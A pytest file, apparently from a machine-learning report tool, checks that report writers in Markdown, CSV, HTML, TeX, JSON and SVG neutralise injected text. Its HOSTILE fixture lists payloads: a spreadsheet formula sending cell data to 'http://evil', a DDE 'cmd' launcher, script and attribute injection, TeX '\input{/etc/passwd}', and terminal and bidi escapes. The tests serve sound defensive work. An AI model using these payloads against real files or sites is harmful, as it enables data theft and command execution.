"""Names, sections, reasons and paths that try to break out of a report, in each format."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
from xml.etree import ElementTree as ET

import pytest

from darkmagic.checklist.model import Checklist, Trick
from darkmagic.checklist.records import Status
from darkmagic.checklist.report.plots.all import draw_plots
from darkmagic.checklist.report.plots.style import standalone
from darkmagic.checklist.report.write import FORMATS, write_report
from darkmagic.checklist.text import printable
from records import report_of, simulated

HOSTILE = {
    "formula": '=HYPERLINK("http://evil/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "link": "[click](http://evil) ![](http://evil/x.png)",
    "reference": "[click][1]\n\n[1]: http://evil",
    "autolink": "<http://evil>",
    "script": "</td><script>alert(1)</script>",
    "attribute": '" onclick="alert(1)',
    "entity": "&lt;b&gt; &#x202e;",
    "table": "a | b | c",
    "fence": "``` `` `",
    "lines": "one\ntwo\r\nthree\u2028four\n# head\n- item",
    "emphasis": "**a** __b__ ~~c~~",
    "formula of TeX": r"\input{/etc/passwd} $\frac{ $ %",
    "terminal": "\x1b[31mred\x1b]0;title\x07\x9b2J\x00",
    "direction": "\u202eevil\u2066\u200b",
    "not UTF-8": "caf\udce9",
}
BIDI = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)


@pytest.fixture(params=HOSTILE, ids=lambda name: name.replace(" ", "-"))
def text(request: pytest.FixtureRequest) -> str:
    """Return a text that is hostile to one of the formats."""
    return HOSTILE[request.param]


def _report(text: str) -> object:
    """Return a report whose title, option, section, reason, facts and commands are `text`."""
    tricks = (Trick("mixup", text, ("off", text)), Trick("stem", "s", ("a", "b")))
    checklist = Checklist("mine", tricks)
    records = [
        dataclasses.replace(r, status=Status.FAILED, accuracy=None, reason=text)
        if r.name == "stem=b"
        else r
        for r in simulated(checklist, 3, {f"mixup={text}": 2.0})
    ]
    return report_of(
        records,
        checklist,
        title=text,
        facts={"machine": text},
        overrides=(f"dataset.source.root={text}",),
        reproduce={"stem=b": f"darkmagic train {text}"},
        cards={"mixup": text},
        remarks=(text,),
    )


def test_no_format_lets_it_act(text: str) -> None:
    """No control character, no half of one, no script, link, formula or further cell is left."""
    report = _report(text)
    written = {form: write_report(report, form) for form in FORMATS}  # type: ignore[arg-type]
    for form, content in written.items():
        assert not BIDI.search(content), form
        content.encode()
    _check_markdown(written["md"])
    _check_csv(written["csv"], text)
    assert "<script>alert" not in written["html"]
    assert 'onclick="' not in written["html"]
    assert not re.search(r"(?<!\\)[$]\\frac|\\input", written["tex"])
    assert "\n\n" not in written["tex"]
    assert json.loads(written["json"])["rows"][1]["option"] == text
    for svg in draw_plots(report).values():  # type: ignore[arg-type]
        ET.fromstring(standalone(svg))


def _check_markdown(content: str) -> None:
    lines = content.splitlines()
    table = [line for line in lines if line.startswith("| ")]
    assert len(table) == 4
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in table} == {12}
    prose = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", content)  # without what is code
    for syntax in (r"(?<!\\)\[", r"(?<!\\)\]", r"(?<!\\)<", r"(?<!\\)&", r"^\[1\]:"):
        assert not re.search(syntax, prose, re.MULTILINE), (syntax, prose)
    assert sum(line.startswith("# ") for line in lines) == 1


def _check_csv(content: str, text: str) -> None:
    rows = list(csv.reader(io.StringIO(content)))
    assert len({len(row) for row in rows}) == 1
    for row in rows:
        for cell in row:
            is_number = re.fullmatch(r"-?[\d.e+-]+", cell)
            assert is_number or not cell.lstrip().startswith(("=", "+", "-", "@")), cell
    (trial,) = [row for row in rows if row[0].startswith("mixup=")]
    assert printable(text, "\n\t\r").replace("\r\n", "\n") in trial[0].replace("\\r", "\r").replace(
        "\r\n", "\n"
    )
